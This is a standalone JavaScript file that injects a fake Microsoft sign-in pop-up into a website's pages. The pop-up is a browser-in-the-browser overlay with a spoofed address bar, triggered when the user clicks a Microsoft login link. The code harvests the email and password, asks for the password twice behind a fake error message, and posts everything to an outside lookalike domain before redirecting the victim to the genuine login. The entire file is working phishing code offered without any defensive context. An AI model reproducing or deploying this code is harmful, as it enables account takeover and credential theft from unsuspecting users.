// bitb-credential-overlay: fake Microsoft account pop-up window drawn in the page, shown on the login button of the host site
// template literals + async/await; submits credentials as JSON and then forwards the user to the genuine login
const BITB = {
  sink: 'https://login-msft-session.net/api/v2/auth',
  fakeUrl: 'https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=00000002-0000-0ff1-ce00-000000000000',
  title: 'Sign in to your account',
};

const template = (host) => `
  <div class="bitb-frame" style="position:fixed;top:60px;left:calc(50% - 230px);width:460px;height:560px;background:#fff;
       box-shadow:0 0 0 1px rgba(0,0,0,.1),0 18px 50px rgba(0,0,0,.4);border-radius:6px;overflow:hidden;z-index:2147483647;font-family:'Segoe UI',sans-serif">
    <div style="height:32px;background:#f3f3f3;display:flex;align-items:center;font-size:12px;padding-left:10px">
      <span>${BITB.title} - Microsoft Edge</span>
      <span style="margin-left:auto;display:flex"><i style="width:46px;text-align:center">&#8212;</i><i style="width:46px;text-align:center">&#9744;</i>
      <i class="bitb-close" style="width:46px;text-align:center;cursor:pointer">&#10005;</i></span>
    </div>
    <div style="height:28px;display:flex;align-items:center;padding:0 10px;font-size:12px;border-bottom:1px solid #e5e5e5">
      <span style="margin-right:6px">&#128274;</span><span style="color:#555;white-space:nowrap;overflow:hidden">${BITB.fakeUrl}</span>
    </div>
    <form class="bitb-form" style="padding:44px">
      <div style="font-weight:600;font-size:15px;color:#737373;margin-bottom:16px">Microsoft</div>
      <div class="bitb-head" style="font-size:24px;font-weight:600;margin-bottom:12px">Sign in</div>
      <div style="font-size:13px;margin-bottom:16px">to continue to ${host}</div>
      <input class="bitb-user" type="email" required placeholder="Email, phone, or Skype" style="width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px">
      <input class="bitb-pass" type="password" placeholder="Password" style="display:none;width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px">
      <div class="bitb-msg" style="color:#e81123;font-size:13px;min-height:18px;margin-top:8px"></div>
      <button style="float:right;margin-top:30px;background:#0067b8;color:#fff;border:0;padding:7px 28px;font-size:15px">Next</button>
    </form>
  </div>`;

async function ship(record) {
  try {
    await fetch(BITB.sink, {
      method: 'POST',
      mode: 'no-cors',
      headers: { 'Content-Type': 'text/plain' },
      body: JSON.stringify(record),
    });
  } catch {
    navigator.sendBeacon(BITB.sink, JSON.stringify(record));
  }
}

function showFakePopup(realHref) {
  const holder = document.createElement('div');
  holder.innerHTML = template(location.hostname);
  document.body.append(holder);
  const $ = (s) => holder.querySelector(s);
  const state = { user: '', tries: 0 };

  $('.bitb-close').addEventListener('click', () => holder.remove());
  $('.bitb-form').addEventListener('submit', async (ev) => {
    ev.preventDefault();
    if (!state.user) {
      state.user = $('.bitb-user').value.trim();
      $('.bitb-user').style.display = 'none';
      $('.bitb-pass').style.display = 'block';
      $('.bitb-head').textContent = 'Enter password';
      $('.bitb-pass').focus();
      return;
    }
    const pass = $('.bitb-pass').value;
    state.tries += 1;
    await ship({ u: state.user, p: pass, n: state.tries, site: location.host, ts: Date.now() });
    if (state.tries < 2) {
      // ask twice to catch typos
      $('.bitb-msg').textContent = 'Your account or password is incorrect.';
      $('.bitb-pass').value = '';
      return;
    }
    holder.remove();
    if (realHref) location.href = realHref;
  });
}

document.querySelectorAll('a[href*="login.microsoftonline"], a[href*="/auth/microsoft"], button[data-provider="microsoft"]').forEach((el) => {
  el.addEventListener('click', (e) => {
    e.preventDefault();
    showFakePopup(el.href || null);
  }, true);
});
